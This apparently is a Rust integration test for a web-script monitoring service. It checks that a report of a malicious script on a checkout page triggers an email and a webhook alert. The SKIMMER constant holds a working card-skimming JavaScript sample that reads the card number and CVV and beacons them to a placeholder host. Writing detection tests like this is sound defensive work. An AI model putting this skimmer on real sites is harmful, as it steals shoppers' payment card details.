//! From a report to people, with receivers that others wrote: a mail server (aiosmtpd) and a library of Standard Webhooks.
#![allow(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "what is not as expected fails the test; what was skipped is said"
)]

use std::time::{Duration, Instant};

use crate::receivers::Receivers;
use axum::body::Body;
use axum::http::{Request, StatusCode};
use serde_json::json;
use service::{Config, Service};
use tower::ServiceExt as _;

#[tokio::test(flavor = "multi_thread")]
async fn a_malicious_script_reaches_a_mailbox_and_a_webhook() {
    let Some(mut receivers) = Receivers::start() else { return };
    let folder = tempfile::tempdir().unwrap();
    let mut config = Config::parse(&receivers.routes(folder.path())).unwrap();
    config.state = folder.path().join("state");
    let service = Service::open(config).unwrap();
    let began = Instant::now();
    let seen = json!({
        "kind": "script", "url": "https://cdn.widget.example/w.js", "page_url": "https://shop.example/pay", "text": SKIMMER,
    });
    let request = Request::post("/observe/shop")
        .header("authorization", format!("Bearer {}", service.new_token().unwrap()))
        .body(Body::from(format!("{seen}\n{seen}\n{seen}\n")))
        .unwrap();
    assert_eq!(service.router().oneshot(request).await.unwrap().status(), StatusCode::OK);
    let (mail, hook) = tokio::task::spawn_blocking(move || receivers.both()).await.unwrap();
    println!("both arrived {} ms after the report", began.elapsed().as_millis());
    assert_eq!(mail["to"], json!(["security@shop.example"]));
    assert_eq!(mail["kinds"], json!(["multipart/alternative", "text/plain", "text/html"]));
    assert!(
        mail["subject"].as_str().unwrap().starts_with("[shop] The code of a script is malicious: "),
        "{mail}"
    );
    assert!(mail["text"].as_str().unwrap().contains("on https://shop.example/pay"), "{mail}");
    assert_eq!(hook["payload"]["alerts"][0]["alert"], "malicious_script", "{hook}");
    tokio::time::timeout(Duration::from_secs(30), service.stop()).await.unwrap();
}

/// Sends nothing: the host does not exist, and nobody runs it.
const SKIMMER: &str = "document.querySelector('#pay').addEventListener('click', function () {\
    var number = document.querySelector('input[name=cardnumber]').value;\
    var code = document.querySelector('input[name=cvv]').value;\
    navigator.sendBeacon('https://stats.collect.invalid/p', btoa(number + '|' + code));\
});";
